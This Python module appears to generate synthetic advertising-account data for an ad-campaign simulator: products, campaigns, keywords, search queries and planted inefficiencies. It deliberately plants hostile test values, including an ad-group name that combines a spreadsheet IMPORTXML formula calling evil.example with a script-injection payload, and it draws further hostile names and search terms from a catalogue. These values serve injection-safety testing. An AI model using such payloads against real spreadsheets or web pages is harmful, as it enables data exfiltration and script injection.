"""Generation of a profile's catalogue, campaigns, targets and latent truth (run once, from its own seeded RNG).

Kept apart from the simulation: it is one long, strictly ordered sequence of RNG draws that must never change."""

from __future__ import annotations

import datetime as _dt
import math

import numpy as np

from . import catalog as cat
from .constants import AUTO_TYPES, KINDS, _Grow, _iso
from .localize import localize


class ProfileGeneration:
    """Mixin of ``Profile``: builds products, entities, queries and planted problems in ``_gen``."""

    # ------------------------------------------------------------------ generation
    def _q(self, text: str, vol: float, rel: float, comp: float, ctr: float, qv: list) -> int:
        text = localize(text, self.country)  # shoppers type in the marketplace's language
        i = self.qmap.get(text)
        if i is None:
            i = len(self.queries)
            self.queries.append(text)
            self.qmap[text] = i
            qv.append((vol, rel, comp, ctr))
        return i

    def _gen(self) -> None:
        rng, size, fx = self.rng, self.size, self.fx
        # products ----------------------------------------------------------------
        n_prod = size["products"]
        themes = rng.choice(len(cat.THEMES), size=min(len(cat.THEMES), max(3, n_prod // 4)), replace=False)
        p_theme = themes[np.arange(n_prod) % len(themes)]
        self.p_asin = cat.asins(rng, n_prod)
        self.p_theme = p_theme
        price = np.round(np.exp(rng.uniform(math.log(10), math.log(80), n_prod)) * fx, 2)
        hi = rng.random(n_prod) < 0.06
        price[hi] = np.round(price[hi] * rng.uniform(2, 4, hi.sum()), 2)
        price = np.maximum(price, 5.99)
        price = np.floor(price) + 0.99
        self.p_price = price
        self.p_price_c = np.round(price * 100).astype(np.int64)
        self.p_margin = np.round(rng.uniform(0.15, 0.45, n_prod), 3)
        self.p_cvr = np.round(rng.uniform(0.04, 0.12, n_prod), 4)
        self.p_base_units = rng.lognormal(1.3, 0.6, n_prod)
        self.p_sku = []
        self.p_title = []
        for i in range(n_prod):
            label, nouns, attrs, brand = cat.THEMES[p_theme[i]]
            self.p_sku.append(f"{brand[:3].upper()}-{label[:2].upper()}-{i + 1:04d}")
            self.p_title.append(f"{brand} {attrs[i % len(attrs)].title()} {nouns[0].title()} ({i + 1})")
        self.asin_index = {a: i for i, a in enumerate(self.p_asin)}
        self.sku_index = {s: i for i, s in enumerate(self.p_sku)}

        # entities ------------------------------------------------------------------
        self.campaigns: list[dict] = []
        self.adgroups: list[dict] = []
        self.ads: list[dict] = []
        self.keywords: list[dict] = []
        self.targets: list[dict] = []
        self.negatives: list[dict] = []
        self.ent_index: dict[str, dict[str, int]] = {k: {} for k in KINDS}
        self.camp_kind: list[str] = []
        self.camp_planted: list[str] = []
        self.ag_camp: list[int] = []
        self.ag_theme: list[int] = []
        self.ad_ag: list[int] = []
        self.ad_prod: list[int] = []
        # unified targets (keyword or targeting clause)
        self.t_kind: list[str] = []  # "keyword" | "target"
        self.t_ent: list[dict] = []
        self.t_ag: list[int] = []
        self.t_pt: list[bool] = []  # product-page-heavy placement mix
        self.t_planted: list[str] = []
        terms_t: list[int] = []
        terms_q: list[int] = []
        terms_s: list[float] = []
        qv: list[tuple] = []
        self._qv = qv

        n_camp = size["campaigns"]
        n_tgt = size["targets"]
        kinds = rng.choice(["auto", "kw", "pt"], size=n_camp, p=[0.25, 0.5, 0.25])
        kinds[0], kinds[1], kinds[2] = "auto", "kw", "pt"
        if n_camp > 3:
            kinds[3] = "kw"
        n_ag = rng.integers(1, 4, n_camp)
        manual_ag = int(sum(n_ag[i] for i in range(n_camp) if kinds[i] != "auto"))
        per_ag = max(4, int(round((n_tgt - 4 * sum(n_ag[kinds == "auto"])) / max(1, manual_ag))))
        hostile_names = list(cat.HOSTILE_NAMES)
        used_names: dict[str, int] = {}
        exact_texts: set[str] = set()
        head_tails: dict[int, list[int]] = {}

        def vol():
            return float(rng.lognormal(4.0, 1.3))

        def new_query(text, base_rel=None, v=None):
            rel = base_rel if base_rel is not None else float(rng.lognormal(0.0, 0.45))
            return self._q(
                text,
                v if v is not None else vol(),
                rel,
                float(rng.lognormal(math.log(0.75 * fx), 0.35)),
                float(rng.lognormal(math.log(0.0045), 0.4)),
                qv,
            )

        def tails_of(head_q: int, theme: int) -> list[int]:
            t = head_tails.get(head_q)
            if t is not None:
                return t
            head = self.queries[head_q]
            out = []
            for _ in range(int(rng.integers(8, 22))):
                r = rng.random()
                if r < 0.35:
                    text = f"{cat.PREFIXES[rng.integers(len(cat.PREFIXES))]} {head}"
                elif r < 0.7:
                    text = f"{head} {cat.SUFFIXES[rng.integers(len(cat.SUFFIXES))]}"
                elif r < 0.85:
                    text = f"{cat.PREFIXES[rng.integers(len(cat.PREFIXES))]} {head} {cat.SUFFIXES[rng.integers(len(cat.SUFFIXES))]}"
                else:
                    text = f"{head} {cat.IRRELEVANT[rng.integers(len(cat.IRRELEVANT))]}"
                    out.append(new_query(text, base_rel=0.0, v=vol() * 0.6))
                    continue
                out.append(new_query(text, v=vol() * 0.5))
            head_tails[head_q] = out
            return out

        def add_target(kind, ent, ag, pt, planted, qs, shares):
            ti = len(self.t_kind)
            self.t_kind.append(kind)
            self.t_ent.append(ent)
            self.t_ag.append(ag)
            self.t_pt.append(pt)
            self.t_planted.append(planted)
            terms_t.extend([ti] * len(qs))
            terms_q.extend(qs)
            terms_s.extend(shares)
            return ti

        plant_oob = set(
            int(i)
            for i in rng.choice(np.flatnonzero(kinds == "kw"), size=min(2, int((kinds == "kw").sum())), replace=False)
        )
        for ci in range(n_camp):
            kind = str(kinds[ci])
            theme = int(rng.choice(themes))
            label, nouns, attrs, brand = cat.THEMES[theme]
            cid = self.new_id()
            mt_style = str(rng.choice(["EXACT", "PHRASE", "BROAD", "MIXED"]))
            name = _seller_name(label, kind, mt_style, used_names)
            if hostile_names and ci % 9 == 4:
                name = hostile_names.pop(0)
            start = self.start - _dt.timedelta(days=int(rng.integers(10, 200)))
            state = (
                "ENABLED"
                if rng.random() > 0.08 or ci < 4 or ci in plant_oob
                else str(rng.choice(["PAUSED", "ARCHIVED"]))
            )
            top = int(rng.choice([0, 0, 0, 10, 25, 50, 100]))
            pb = [{"placement": "PLACEMENT_TOP", "percentage": top}]
            if rng.random() < 0.3:
                pb.append({"placement": "PLACEMENT_PRODUCT_PAGE", "percentage": int(rng.choice([10, 20, 40]))})
            camp = {
                "campaignId": cid,
                "name": name,
                "state": state,
                "targetingType": "AUTO" if kind == "auto" else "MANUAL",
                "startDate": start.isoformat(),
                "budget": {"budget": 0.0, "budgetType": "DAILY", "effectiveBudget": 0.0},
                "dynamicBidding": {
                    "strategy": str(rng.choice(["LEGACY_FOR_SALES", "MANUAL", "AUTO_FOR_SALES"], p=[0.6, 0.3, 0.1])),
                    "placementBidding": pb,
                },
                "tags": {},
                "extendedData": {
                    "creationDateTime": _iso(start, "09:12:00"),
                    "lastUpdateDateTime": _iso(start, "09:12:00"),
                },
            }
            self.ent_index["campaigns"][cid] = len(self.campaigns)
            self.campaigns.append(camp)
            self.camp_kind.append(kind)
            self.camp_planted.append("efficient_out_of_budget" if ci in plant_oob else "")
            theme_prods = np.flatnonzero(p_theme == theme)
            heads_pool = [f"{a} {n}" for a in attrs for n in nouns] + list(nouns)
            for gi in range(int(n_ag[ci])):
                agid = self.new_id()
                ag_name = f"{label} {['Core', 'Long tail', 'Competitors', 'Brand'][gi % 4]}"
                if ci == 5 and gi == 0:
                    ag_name = '=IMPORTXML("http://evil.example","//a") <script>alert(1)</script>'
                dbid = round(float(rng.uniform(0.4, 1.2)) * fx, 2)
                ag = {
                    "adGroupId": agid,
                    "campaignId": cid,
                    "name": ag_name,
                    "state": "ENABLED" if rng.random() > 0.05 or gi == 0 else "PAUSED",
                    "defaultBid": dbid,
                    "extendedData": {
                        "creationDateTime": _iso(start, "09:13:00"),
                        "lastUpdateDateTime": _iso(start, "09:13:00"),
                    },
                }
                ai = len(self.adgroups)
                self.ent_index["adGroups"][agid] = ai
                self.adgroups.append(ag)
                self.ag_camp.append(ci)
                self.ag_theme.append(theme)
                prods = rng.choice(theme_prods, size=min(len(theme_prods), int(rng.integers(1, 3))), replace=False)
                for pi in prods:
                    adid = self.new_id()
                    ad = {
                        "adId": adid,
                        "campaignId": cid,
                        "adGroupId": agid,
                        "state": "ENABLED",
                        "asin": self.p_asin[pi],
                        "sku": self.p_sku[pi],
                        "extendedData": {
                            "creationDateTime": _iso(start, "09:14:00"),
                            "lastUpdateDateTime": _iso(start, "09:14:00"),
                        },
                    }
                    self.ent_index["productAds"][adid] = len(self.ads)
                    self.ads.append(ad)
                    self.ad_ag.append(ai)
                    self.ad_prod.append(int(pi))
                ext = {"creationDateTime": _iso(start, "09:15:00"), "lastUpdateDateTime": _iso(start, "09:15:00")}
                if kind == "auto":
                    for j, at in enumerate(AUTO_TYPES):
                        tid = self.new_id()
                        ent = {
                            "targetId": tid,
                            "campaignId": cid,
                            "adGroupId": agid,
                            "expression": [{"type": at}],
                            "resolvedExpression": [{"type": at}],
                            "expressionType": "AUTO",
                            "state": "ENABLED",
                            "bid": round(dbid * float(rng.uniform(0.7, 1.3)), 2),
                            "extendedData": dict(ext),
                        }
                        qs, sh = [], []
                        nterms = int(rng.integers(25, 70))
                        for _ in range(nterms):
                            if j >= 2 and rng.random() < 0.6:
                                q = new_query(cat.asin(rng).lower(), v=vol() * 0.3)
                            else:
                                hq = new_query(heads_pool[int(rng.integers(len(heads_pool)))])
                                tl = tails_of(hq, theme)
                                q = hq if rng.random() < 0.3 else tl[int(rng.integers(len(tl)))]
                            qs.append(q)
                            sh.append(float(rng.uniform(0.05, 0.25)) * (1.4 if j == 0 else 0.8))
                        if ci == 0 and gi == 0:  # hostile shopper-typed text with real traffic
                            for h in cat.HOSTILE_TERMS:
                                qs.append(new_query(h.format(noun=nouns[0]), v=120.0))
                                sh.append(0.5)
                        self.ent_index["targets"][tid] = len(self.targets)
                        self.targets.append(ent)
                        add_target("target", ent, ai, j >= 2, "", qs, sh)
                elif kind == "pt":
                    for j in range(per_ag):
                        tid = self.new_id()
                        if j % 10 == 9:
                            catid = str(int(rng.integers(2_000_000_000, 3_000_000_000)))
                            expr = [{"type": "ASIN_CATEGORY_SAME_AS", "value": catid}]
                            rexpr = [{"type": "ASIN_CATEGORY_SAME_AS", "value": label}]
                            qs = [
                                new_query(cat.asin(rng).lower(), v=vol() * 0.4)
                                for _ in range(int(rng.integers(10, 30)))
                            ]
                            sh = [float(rng.uniform(0.05, 0.3)) for _ in qs]
                        else:
                            a = cat.asin(rng)
                            expr = [{"type": "ASIN_SAME_AS", "value": a}]
                            rexpr = [{"type": "ASIN_SAME_AS", "value": a}]
                            qs = [new_query(a.lower())] + [
                                new_query(cat.asin(rng).lower(), v=vol() * 0.2) for _ in range(int(rng.integers(0, 3)))
                            ]
                            sh = [0.6] + [0.2] * (len(qs) - 1)
                        planted = ""
                        if rng.random() < 0.04:
                            planted = "bleeder"
                            for q in qs:
                                qv[q] = (qv[q][0] * 2, 0.0, qv[q][2], qv[q][3])
                        ent = {
                            "targetId": tid,
                            "campaignId": cid,
                            "adGroupId": agid,
                            "expression": expr,
                            "resolvedExpression": rexpr,
                            "expressionType": "MANUAL",
                            "state": "ENABLED" if rng.random() > 0.05 else "PAUSED",
                            "bid": round(dbid * float(rng.uniform(0.6, 1.4)), 2),
                            "extendedData": dict(ext),
                        }
                        self.ent_index["targets"][tid] = len(self.targets)
                        self.targets.append(ent)
                        add_target("target", ent, ai, True, planted, qs, sh)
                else:
                    used = set()
                    for _j in range(per_ag):
                        head = heads_pool[int(rng.integers(len(heads_pool)))]
                        mt = mt_style if mt_style != "MIXED" else str(rng.choice(["BROAD", "PHRASE", "EXACT"]))
                        if (head, mt) in used:
                            head = f"{head} {attrs[int(rng.integers(len(attrs)))]}"
                        if (head, mt) in used:
                            continue
                        used.add((head, mt))
                        r = rng.random()
                        planted = ""
                        if r < 0.035:
                            planted = "bleeder"
                            head = f"{head} {cat.IRRELEVANT[int(rng.integers(len(cat.IRRELEVANT)))]}"
                            hq = new_query(head, base_rel=0.0, v=vol() * 2.5)
                            qv[hq] = (qv[hq][0], 0.0, qv[hq][2], qv[hq][3])
                        elif r < 0.11 and mt == "EXACT":
                            planted = "underbid_winner"
                            hq = new_query(head)
                            v0 = qv[hq]
                            qv[hq] = (max(v0[0], 150.0), 2.6, v0[2], v0[3])
                        else:
                            hq = new_query(head)
                        if planted == "bleeder":
                            tl = [
                                new_query(f"{head} {s}", base_rel=0.0, v=vol() * 0.5)
                                for s in cat.SUFFIXES[: int(rng.integers(2, 6))]
                            ]
                        else:
                            tl = tails_of(hq, theme)
                        if mt == "EXACT":
                            qs = [
                                hq,
                                new_query(cat.plural(head), base_rel=qv[hq][1], v=qv[hq][0] * 0.15),
                                new_query(cat.typo(head, rng), base_rel=qv[hq][1], v=qv[hq][0] * 0.05),
                            ]
                            sh = [1.0, 1.0, 1.0]
                            exact_texts.add(localize(head, self.country))
                        elif mt == "PHRASE":
                            qs = [hq] + tl
                            sh = [0.6] + [0.45] * len(tl)
                        else:
                            words = head.split()
                            rev = " ".join(words[::-1])
                            qs = [hq, new_query(rev, base_rel=qv[hq][1] * 0.8, v=qv[hq][0] * 0.1)] + tl
                            sh = [0.35, 0.35] + [0.3] * len(tl)
                        bid = round(dbid * float(rng.uniform(0.6, 1.5)), 2)
                        if planted == "underbid_winner":
                            bid = round(max(0.02 * fx, 0.12 * fx), 2)
                        elif planted == "bleeder":
                            bid = round(dbid * 1.5, 2)
                        kid = self.new_id()
                        ent = {
                            "keywordId": kid,
                            "campaignId": cid,
                            "adGroupId": agid,
                            "keywordText": localize(head, self.country),
                            "matchType": mt,
                            "state": "ENABLED" if rng.random() > 0.04 or planted else "PAUSED",
                            "bid": bid,
                            "extendedData": dict(ext),
                        }
                        self.ent_index["keywords"][kid] = len(self.keywords)
                        self.keywords.append(ent)
                        add_target("keyword", ent, ai, False, planted, qs, sh)
                    # a few pre-existing negatives
                    if rng.random() < 0.4:
                        nid = self.new_id()
                        neg = {
                            "keywordId": nid,
                            "campaignId": cid,
                            "adGroupId": agid,
                            "keywordText": localize(
                                f"{nouns[0]} {cat.IRRELEVANT[int(rng.integers(len(cat.IRRELEVANT)))]}", self.country
                            ),
                            "matchType": "NEGATIVE_PHRASE",
                            "state": "ENABLED",
                            "extendedData": dict(ext),
                        }
                        self.ent_index["negativeKeywords"][nid] = len(self.negatives)
                        self.negatives.append(neg)
        q = np.array(qv, dtype=float)
        q[:, 0] *= size.get("volume", 1.0)
        self.q_vol = _Grow(float, q[:, 0])
        self.q_rel = _Grow(float, q[:, 1])
        self.q_comp = _Grow(float, q[:, 2])
        self.q_ctr = _Grow(float, q[:, 3])
        # planted harvestable terms: converting auto/broad/phrase terms not targeted exact
        self.exact_texts = exact_texts
        self.term_t = _Grow(np.int32, terms_t)
        self.term_q = _Grow(np.int32, terms_q)
        self.term_s = _Grow(float, terms_s)
        cand = np.flatnonzero(
            np.isin(
                np.array(
                    [
                        self.t_kind[t] == "target" or self.t_ent[t].get("matchType") in ("BROAD", "PHRASE")
                        for t in range(len(self.t_kind))
                    ]
                )[self.term_t.a],
                True,
            )
        )
        cand = [
            i
            for i in cand[rng.permutation(len(cand))][:400]
            if self.queries[self.term_q.a[i]] not in exact_texts
            and self.q_rel.a[self.term_q.a[i]] > 0
            and not self.queries[self.term_q.a[i]].startswith("b0")
        ][: max(5, len(self.t_kind) // 150)]
        for i in cand:
            qi = self.term_q.a[i]
            self.q_rel.a[qi] = max(self.q_rel.a[qi], 2.2)
            self.q_vol.a[qi] = max(self.q_vol.a[qi], 200.0)
            self.term_s.a[i] = max(self.term_s.a[i], 0.6)
        # each query's reach for this advertiser: what its generated targets showed for it together. Later
        # targets for the same query share this reach (see ``ProfileSimulation._auction_shares``).
        self.q_reach = _Grow(float, np.bincount(self.term_q.a, self.term_s.a, minlength=len(self.queries)))
        self.term_blocked = np.zeros(len(self.term_t), dtype=bool)
        self._apply_negatives()
        del self._qv
        # budgets: from expected demand (planted efficient campaigns get too little)
        self._rebuild()
        demand = self._expected_spend()
        for ci, camp in enumerate(self.campaigns):
            d = demand[ci]
            if self.camp_planted[ci] == "efficient_out_of_budget":
                b = max(1.0, d * 0.45)
                for ti in np.flatnonzero(self.s_tcamp == ci):
                    self.t_planted[ti] = self.t_planted[ti] or ""
            else:
                b = max(5.0, d * float(rng.uniform(1.6, 3.0)))
            b = float(round(b * fx if d <= 0 else b, 0))
            camp["budget"]["budget"] = b
            camp["budget"]["effectiveBudget"] = b
        self._hostile_names_on_small_campaigns(demand)
        # planted efficient campaigns: make their queries strong converters
        for ci in np.flatnonzero(np.array(self.camp_planted) == "efficient_out_of_budget"):
            tmask = self.s_tcamp == ci
            qs = np.unique(self.term_q.a[tmask[self.term_t.a]])
            qs = qs[self.q_rel.a[qs] > 0]  # bleeders stay bleeders
            self.q_rel.a[qs] = np.maximum(self.q_rel.a[qs], 1.8)
        self._dirty = True
        self._gen_promotions()

    def _hostile_names_on_small_campaigns(self, demand) -> None:
        """Hostile names (formula, script, RTL, emoji) stay in the data for the tests, on the campaigns with the
        least expected spend: the campaign a demo opens with (the biggest) carries an ordinary seller's name.
        Names are swapped, so every name stays in the world once and nothing random is drawn."""
        hostile = [ci for ci, c in enumerate(self.campaigns) if c["name"] in cat.HOSTILE_NAMES]
        if not hostile:
            return
        small = sorted(
            (ci for ci in range(len(self.campaigns)) if ci >= 4 and not self.camp_planted[ci]),
            key=lambda ci: (float(demand[ci]), ci),
        )[: len(hostile)]
        movers = [ci for ci in hostile if ci not in small]
        free = [ci for ci in small if ci not in hostile]
        for a, b in zip(movers, free):
            self.campaigns[a]["name"], self.campaigns[b]["name"] = self.campaigns[b]["name"], self.campaigns[a]["name"]


_MATCH_NAMES = {"EXACT": "Exact", "PHRASE": "Phrase", "BROAD": "Broad", "MIXED": "Keywords"}


def _seller_name(label: str, kind: str, match_style: str, used: dict[str, int]) -> str:
    """A campaign name as sellers write them ("Yoga Mats - Exact", "Yoga Mats - Auto 2"): theme, then targeting."""
    if kind == "auto":
        base = f"{label} - Auto"
    elif kind == "kw":
        base = f"{label} - {_MATCH_NAMES.get(match_style, 'Keywords')}"
    else:
        base = f"{label} - Product targeting"
    used[base] = used.get(base, 0) + 1
    return base if used[base] == 1 else f"{base} {used[base]}"
